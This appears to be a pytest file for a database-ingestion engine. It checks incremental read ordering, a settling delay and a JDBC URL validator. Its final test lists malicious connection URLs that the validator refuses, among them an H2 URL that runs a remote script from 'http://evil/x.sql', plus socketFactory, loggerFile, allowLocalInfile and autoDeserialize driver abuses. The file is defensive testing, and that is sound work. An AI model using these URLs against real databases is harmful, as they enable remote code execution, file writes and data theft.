"""What is read of a database, and when: places, their order, and how long they settle."""

from __future__ import annotations

from typing import Any

import pytest

from mainstem.engine.sources.database import check_url
from mainstem.engine.sources.jdbc import Order, Place, Settling
from mainstem.errors import MainstemError

TYPES = {"id": "bigint", "at": "timestamp"}


class Plain:
    """A database whose dialect is the plain one."""

    def quoted(self, column: str) -> str:
        return f'"{column}"'

    def literal(self, text: str, type_: str) -> str:
        return f"'{text}'" if type_ == "timestamp" else text


def order(timestamp: str | None, incrementing: str | None) -> Order:
    options = {"timestamp": timestamp, "incrementing": incrementing}
    made: Any = Plain()
    return Order(made, options, TYPES)


def test_places_are_in_the_order_of_times_then_numbers():
    both = order("at", "id")
    assert both.columns == ['"at"', '"id"']
    place = Place("2026-11-16 10:00:00", "7")
    later = """("at" > '2026-11-16 10:00:00' OR ("at" = '2026-11-16 10:00:00' AND "id" > 7))"""
    before = """("at" < '2026-11-16 10:00:00' OR ("at" = '2026-11-16 10:00:00' AND "id" <= 7))"""
    assert both.behind(place) == [later]
    assert both.up_to(place) == before
    assert both.behind(None) == []


def test_a_time_or_a_number_alone_is_a_place():
    assert order("at", None).behind(Place("2026", None)) == ["\"at\" > '2026'"]
    assert order("at", None).up_to(Place("2026", None)) == "\"at\" <= '2026'"
    numbers = order(None, "id")
    assert numbers.behind(Place(None, "7")) == ['"id" > 7']
    assert numbers.not_beyond("9") == '"id" <= 9'


def test_a_place_counts_when_it_was_seen_for_long_enough():
    settling = Settling(5.0)
    assert settling.settled(0.0) is None
    settling.saw("10", 0.0)
    settling.saw("10", 3.0)
    assert settling.settled(4.9) is None
    settling.saw("20", 4.9)
    assert settling.settled(5.0) == "10"
    assert settling.settled(9.8) == "10"
    assert settling.settled(9.9) == "20"


def test_without_a_delay_a_place_counts_at_once():
    settling = Settling(0.0)
    settling.saw("10", 0.0)
    assert settling.settled(0.0) == "10"


@pytest.mark.parametrize(
    "url",
    [
        "jdbc:postgresql://db.example.com:5432/shop?sslmode=verify-full&connectTimeout=5",
        "jdbc:mariadb://localhost/shop",
        "jdbc:sqlserver://h:1433;databaseName=shop;encrypt=true",
        "jdbc:oracle:thin:@//h:1521/db",
    ],
)
def test_servers_are_let_through(url):
    check_url(url)


@pytest.mark.parametrize(
    "url",
    [
        "postgresql://localhost/shop",
        "jdbc:derby:memory:x;create=true",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:postgresql://h/db?socketFactory=org.springframework.Evil",
        "jdbc:postgresql://h/db?sslmode=require&loggerFile=/etc/x",
        "jdbc:mariadb://h/db?allowLocalInfile=true",
        "jdbc:mysql://h/db?autoDeserialize=true",
    ],
)
def test_what_a_driver_could_be_misused_for_is_refused(url):
    with pytest.raises(MainstemError) as caught:
        check_url(url)
    assert caught.value.code == "INVALID_OPTION"
    assert caught.value.params["option"] == "url"
